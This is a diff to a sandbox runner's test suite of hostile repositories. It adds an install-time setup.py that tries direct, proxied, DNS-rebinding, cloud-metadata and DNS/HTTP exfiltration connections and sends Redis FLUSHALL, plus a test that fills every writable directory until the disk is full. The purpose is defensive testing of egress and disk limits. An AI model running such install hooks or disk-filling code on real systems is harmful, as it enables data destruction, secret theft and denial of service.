@@ -17,6 +17,18 @@ export interface HostFacts {
   /** A root-owned directory outside the build (and its one file) that links planted by a build point at. */
   canaryDir: string;
   canaryDirFile: string;
+  /** Hosts in the test's own network namespace, and names its resolver (BUILD_EGRESS_DNS) answers. */
+  egress: {
+    service: string;
+    web: string;
+    redisPort: number;
+    /** A host that is not the index, by name. */
+    internetHost: string;
+    /** Names BUILD_EGRESS_ALLOW allows that resolve to 127.0.0.1 and to 169.254.169.254. */
+    rebinding: string[];
+  };
+  /** The disk each build may fill (BUILD_DISK_MB, or this case's own lower `disk-mb`). */
+  diskMb: number;
 }
 
 /** One hostile repository and what the runner must make of it. */
@@ -257,6 +269,119 @@ export function hostileCases(
           'setup(name="hostile-calc", version="0.1", packages=["calc"])',
         ),
       }),
+    },
+    {
+      // While installing, setup.py tries every way out: the test hosts directly and through the proxy, a host
+      // that is not the index by name, allowed names that resolve to loopback and to the metadata service, data in
+      // a name, plain HTTP. Every one is refused, the index still serves six, and the tests decide the verdict.
+      name: 'egress-from-setup-py',
+      status: 'PASSED',
+      files: withSix({
+        ...hostileTest(facts, '@pytest.mark.fast', 'def test_passes():', '    assert True'),
+        'pyproject.toml': pyproject(
+          '[build-system]',
+          'requires = ["setuptools>=61"]',
+          'build-backend = "setuptools.build_meta"',
+        ),
+        'setup.py': py(
+          'import http.client',
+          'import os',
+          'import socket',
+          'import sys',
+          'import urllib.parse',
+          'import urllib.request',
+          '',
+          'sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "tests"))',
+          'from probe import FACTS, record  # noqa: E402',
+          'from setuptools import setup  # noqa: E402',
+          '',
+          'HOSTS = FACTS["egress"]',
+          'MARK = FACTS["marker"]',
+          'PROXY = urllib.parse.urlsplit(os.environ.get("HTTPS_PROXY", "http://127.0.0.1:3128"))',
+          '',
+          '',
+          'def direct(host, port):',
+          '    s = socket.socket()',
+          '    s.settimeout(3)',
+          '    try:',
+          '        s.connect((host, port))',
+          '        s.sendall(b"FLUSHALL\\r\\n")',
+          '        record(f"direct {host}:{port}", "CONNECTED")',
+          '    except OSError as error:',
+          '        record(f"direct {host}:{port}", f"blocked {type(error).__name__}")',
+          '    finally:',
+          '        s.close()',
+          '',
+          '',
+          'def tunnel(host, port):',
+          '    c = http.client.HTTPConnection(PROXY.hostname, PROXY.port, timeout=15)',
+          '    c.set_tunnel(host, port)',
+          '    try:',
+          '        c.connect()',
+          '        c.sock.sendall(b"FLUSHALL\\r\\n")',
+          '        record(f"proxy {host}:{port}", "CONNECTED")',
+          '    except OSError as error:',
+          '        record(f"proxy {host}:{port}", f"blocked {error}")',
+          '    finally:',
+          '        c.close()',
+          '',
+          '',
+          'def plain(url):',
+          '    try:',
+          '        urllib.request.urlopen(url, timeout=15).read()',
+          '        record(f"http {url}", "SENT")',
+          '    except Exception as error:',
+          '        record(f"http {url}", f"blocked {error}")',
+          '',
+          '',
+          'def lookup(name):',
+          '    try:',
+          '        record(f"dns {name}", f"SENT {socket.getaddrinfo(name, 443)}")',
+          '    except OSError as error:',
+          '        record(f"dns {name}", f"blocked {type(error).__name__}")',
+          '',
+          '',
+          'direct(HOSTS["service"], HOSTS["redisPort"])',
+          'direct(HOSTS["web"], 80)',
+          'tunnel(HOSTS["service"], HOSTS["redisPort"])',
+          'tunnel(HOSTS["web"], 80)',
+          'tunnel(HOSTS["internetHost"], 443)',
+          'for name in HOSTS["rebinding"]:',
+          '    tunnel(name, 443)',
+          'tunnel(f"exfil-{MARK}.{HOSTS[\'internetHost\']}", 443)',
+          'plain(f"http://{HOSTS[\'web\']}/{MARK}")',
+          'plain(f"http://{HOSTS[\'internetHost\']}/{MARK}")',
+          'lookup(f"dns-{MARK}.{HOSTS[\'internetHost\']}")',
+          'setup(name="hostile-calc", version="0.1", packages=["calc"])',
+        ),
+      }),
+    },
+    {
+      // Files below the file-size limit in every place a build may write, until the build's disk is full.
+      name: 'fill-the-disk',
+      status: 'FAILED',
+      reason: new RegExp(`disk limit of ${facts.diskMb} MiB reached`),
+      files: {
+        ...hostileTest(
+          facts,
+          'PLACES = ["TMPDIR", "HOME", "CI_RUNNER_KEEP"]',
+          '',
+          '',
+          '@pytest.mark.fast',
+          'def test_fill_every_writable_place():',
+          '    chunk = b"x" * (1 << 20)',
+          '    for place in ["."] + [os.environ[name] for name in PLACES]:',
+          '        for n in range(1000):',
+          '            try:',
+          '                with open(os.path.join(place, f"fill-{n}.bin"), "wb") as handle:',
+          '                    for _ in range(48):',
+          '                        handle.write(chunk)',
+          '            except OSError as error:',
+          '                record(f"fill {place}", f"stopped {type(error).__name__} after {n} files")',
+          '                break',
+        ),
+        'pyproject.toml': pyproject(`disk-mb = ${facts.diskMb}`),
+      },
     },
     {
       name: 'fork-bomb',
